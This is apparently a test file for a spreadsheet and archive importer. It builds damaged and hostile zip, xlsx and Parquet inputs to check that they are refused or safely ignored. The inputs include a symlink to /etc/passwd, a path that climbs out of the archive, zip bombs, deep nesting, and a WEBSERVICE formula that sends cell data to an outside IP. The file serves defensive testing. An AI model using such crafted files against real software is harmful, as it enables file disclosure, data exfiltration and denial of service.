/** @file Packed files that are damaged, or made to mislead: read as they are, or refused in words. */
import { BlobWriter, TextReader, ZipWriter } from '@zip.js/zip.js';
import fc from 'fast-check';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { describe, expect, test } from 'vitest';
import { gzipOf, workbookOf, zipOf } from '../../../helpers/files/packed-files';
import { readFile, readFiles, refusal } from '../../../helpers/files/read-file';

const CSV = `id,text\n${Array.from({ length: 40 }, (_, i) => `${i},text number ${i}`).join('\n')}\n`;
const SHEET = {
  rows:
    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>' +
    '<row r="2"><c r="A2"><v>44000</v></c><c r="B2" t="inlineStr"><is><t>fell</t></is></c></row>' +
    '<row r="3"><c r="A3" s="1"><v>44001</v></c><c r="B3" t="s"><v>2</v></c></row>',
  after: '<mergeCells><mergeCell ref="B2:B3"/></mergeCells>',
};
const EXTRAS = {
  strings: '<si><t>day</t></si><si><r><t>te</t></r><r><t>xt</t></r></si><si><t>late</t></si>',
  styles: '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>',
};

const bytesOf = async (blob: Blob) => new Uint8Array(await blob.arrayBuffer());
const FILES: [name: string, make: () => Promise<Uint8Array<ArrayBuffer>>][] = [
  ['a.zip', async () => bytesOf(await zipOf({ 'a.csv': CSV }))],
  ['a.csv.gz', async () => bytesOf(await gzipOf(CSV))],
  ['a.xlsx', async () => bytesOf(await workbookOf({ One: SHEET }, EXTRAS))],
];

describe.each(FILES)('%s', (name, make) => {
  test('with changed bytes is read or refused in words, and never fails otherwise', async () => {
    const sound = await make();
    const change = fc.tuple(fc.nat(sound.length - 1), fc.integer({ min: 0, max: 255 }));
    const changes = fc.array(change, { minLength: 1, maxLength: 3 });
    await fc.assert(
      fc.asyncProperty(changes, fc.option(fc.nat(sound.length)), async (some, end) => {
        const bytes = sound.slice(0, end ?? sound.length);
        for (const [at, value] of some) if (at < bytes.length) bytes[at] = value;
        const failure = await readFile(bytes, name).then(
          () => null,
          (error: unknown) => error as Error,
        );
        expect(failure === null || failure.name === 'TableError', String(failure?.stack)).toBe(
          true,
        );
      }),
      { numRuns: 100, seed: 20_261_128 },
    );
  });
});

test('what is packed in a zip file is what its checksum says', async () => {
  const writer = new ZipWriter(new BlobWriter());
  await writer.add('a.csv', new TextReader(CSV), { level: 0 });
  const zip = await bytesOf(await writer.close());
  const text = new TextEncoder().encode('text number 7');
  const at = zip.findIndex((_, i) => text.every((byte, k) => zip[i + k] === byte));
  zip[at] = 'T'.charCodeAt(0);
  expect(await refusal(zip, 'a.zip')).toMatch(/“a\.csv” is damaged.*Nothing was imported/);
});

describe('a zip file', () => {
  test('with two files of one name is refused: programs do not agree which of them counts', async () => {
    const zip = await bytesOf(
      await zipOf({ 'a.csv': CSV, 'b.csv': CSV.replaceAll('text', 'lie') }),
    );
    for (const [i, byte] of zip.entries()) {
      const isName = String.fromCharCode(byte, zip[i + 1] ?? 0, zip[i + 2] ?? 0) === 'b.c';
      if (isName) zip[i] = 'a'.charCodeAt(0);
    }
    expect(await refusal(zip, 'two.zip')).toMatch(/two files of the name “a\.csv”/);
  });

  const zipWith = async (name: string, text: string, options = {}) => {
    const writer = new ZipWriter(new BlobWriter());
    await writer.add('a.csv', new TextReader(CSV));
    await writer.add(name, new TextReader(text), options);
    return bytesOf(await writer.close());
  };

  test('with links in it holds its tables and nothing else', async () => {
    const zip = await zipWith('link.csv', '/etc/passwd', { unixMode: 0o120777 });
    const { columns, rows, findings } = await readFile(zip, 'a.zip');
    expect([columns, rows.length]).toEqual([['id', 'text'], 40]);
    expect(JSON.stringify(findings)).not.toContain('link.csv');
  });

  test('with paths that lead out of it is refused', async () => {
    const zip = await zipWith('xx/xx/above.csv', CSV);
    for (let at = 0; at < zip.length - 5; at++) {
      if (new TextDecoder().decode(zip.slice(at, at + 6)) === 'xx/xx/') zip.fill(46, at, at + 2);
    }
    expect(await refusal(zip, 'a.zip')).toMatch(/damaged ZIP archive.*Nothing was imported/);
  });
});

describe('a workbook', () => {
  const sheetOf = (rows: string, extras = {}) => workbookOf({ One: { rows } }, extras);

  test('loses no text whose cell names no column', async () => {
    const rows =
      '<row><c r="7" t="inlineStr"><is><t>a</t></is></c><c r="" t="inlineStr"><is><t>b</t></is></c></row>' +
      '<row><c t="inlineStr"><is><t>1</t></is></c><c r="2" t="inlineStr"><is><t>2</t></is></c></row>';
    const table = await readFiles([new File([await sheetOf(rows)], 'a.xlsx')]);
    expect([table.columns, table.rows]).toEqual([['a', 'b'], [['1', '2']]]);
  });

  test('has no format that is longer than formats are: such are made to take time', async () => {
    const pattern = `yyyy${'['.repeat(200_000)}`;
    const styles = `<numFmts><numFmt numFmtId="200" formatCode="${pattern}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>`;
    const rows =
      '<row><c t="inlineStr"><is><t>a</t></is></c></row><row><c s="0"><v>5</v></c></row>';
    const properties = '<workbookPr date1904="1"/>';
    const file = new File([await sheetOf(rows, { styles, properties })], 'a.xlsx');
    expect((await readFiles([file])).rows).toEqual([['5']]);
  });

  test('shows a formula and what it links to by what the file has of them, and asks for nothing', async () => {
    const rows =
      '<row><c t="inlineStr"><is><t>a</t></is></c></row>' +
      '<row><c t="str"><f>WEBSERVICE("http://192.0.2.1/?"&amp;A1)</f><v>kept &lt;b&gt;</v></c></row>' +
      "<row><c><f>'[1]Other'!A1</f><v>7</v></c></row>";
    const table = await readFiles([new File([await sheetOf(rows)], 'a.xlsx')]);
    expect(table.rows).toEqual([['kept <b>'], ['7']]);
  });
});

describe('a workbook made to keep the page at work', () => {
  const text = (reference: string, value: string) =>
    `<c r="${reference}" t="inlineStr"><is><t>${value}</t></is></c>`;
  const head = `<row r="1">${text('A1', 'text')}${text('B1', 'more')}</row>`;

  test('by twenty thousand merged cells over one column shows the last that begins', async () => {
    const lines = Array.from({ length: 2_000 }, (_, i) => `<row r="${i + 2}">${i < 2 ? text(`A${i + 2}`, `text ${i}`) : ''}${text(`B${i + 2}`, 'x')}</row>`); // prettier-ignore
    const merges = Array.from({ length: 20_000 }, (_, i) => `<mergeCell ref="A${2 + Math.floor(i / 10_000)}:A1048576"/>`); // prettier-ignore
    const after = `<mergeCells>${merges.join('')}</mergeCells>`;
    const book = await workbookOf({ One: { rows: head + lines.join(''), after } });
    const { rows } = await readFiles([new File([book], 'a.xlsx')]);
    expect([rows[0], rows[1], rows.at(-1)]).toEqual([
      ['text 0', 'x'],
      ['text 1', 'x'],
      ['text 1', 'x'],
    ]);
  });

  test('by a million elements one within another is refused', async () => {
    const book = await workbookOf({ One: { rows: `${'<a>'.repeat(1_000_000)}${head}` } });
    const bytes = new Uint8Array(await book.arrayBuffer());
    expect(await refusal(bytes, 'a.xlsx')).toMatch(/damaged.*Nothing was imported/);
  });

  test('by a hundred sheets that each are harmless, but not together, is refused', async () => {
    const rows = head + ' '.repeat(1_000_000);
    const names = Array.from({ length: 100 }, (_, i) => [`s${i}`, { rows }] as const);
    const book = await workbookOf(Object.fromEntries(names));
    const bytes = new Uint8Array(await book.arrayBuffer());
    expect(await refusal(bytes, 'a.xlsx')).toMatch(/unpacks to more than.*Nothing was imported/);
  });

  test('by sheets that are in the same bytes is refused', async () => {
    const rows = head + head.repeat(20_000);
    const book = await workbookOf({ One: { rows }, Two: { rows } });
    const bytes = new Uint8Array(await book.arrayBuffer());
    const view = new DataView(bytes.buffer);
    const entries = [...bytes.keys()].filter(
      (at) => at + 46 < bytes.length && view.getUint32(at, true) === 0x02014b50,
    );
    const size = Math.max(...entries.map((at) => view.getUint32(at + 20, true)));
    for (const at of entries.slice(0, -1)) view.setUint32(at + 20, size, true);
    expect(await refusal(bytes, 'a.xlsx')).toMatch(/damaged ZIP archive.*Nothing was imported/);
  });
});

describe('a Parquet file', () => {
  const data = Array.from({ length: 40 }, (_, i) => i);
  const soundFile = () =>
    new Uint8Array(parquetWriteBuffer({ columnData: [{ name: 'id', data, type: 'INT32' }] }));

  test('whose page says nothing of its values is refused, not read for ever', async () => {
    const bytes = soundFile();
    // The first page's header begins at 4: type, two lengths, and here what the page has; then the next is read at no place.
    expect(bytes[12]).toBe(0x5c);
    bytes[12] = 0x41;
    expect(await refusal(bytes, 'a.parquet')).toMatch(/Nothing was imported/);
  });

  test('that says it has more rows than there are is refused, too', async () => {
    const sound = soundFile();
    const ends: string[] = [];
    // 40 as Thrift writes it, wherever it stands: in one place it is the rows of the group.
    for (let at = 0; at < sound.length; at++) {
      if (sound[at] !== 80) continue;
      const many = [0xfe, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x0f];
      const bytes = Uint8Array.from([...sound.slice(0, at), ...many, ...sound.slice(at + 1)]);
      // The footer is that much longer.
      const view = new DataView(bytes.buffer);
      view.setUint32(bytes.length - 8, view.getUint32(bytes.length - 8, true) + 7, true);
      const end = readFile(bytes, 'a.parquet').then(
        () => 'read',
        (error: unknown) => (error as Error).name,
      );
      ends.push(await end);
    }
    expect(ends).toContain('TableError');
    expect(ends.every((one) => one === 'read' || one === 'TableError')).toBe(true);
  });
});
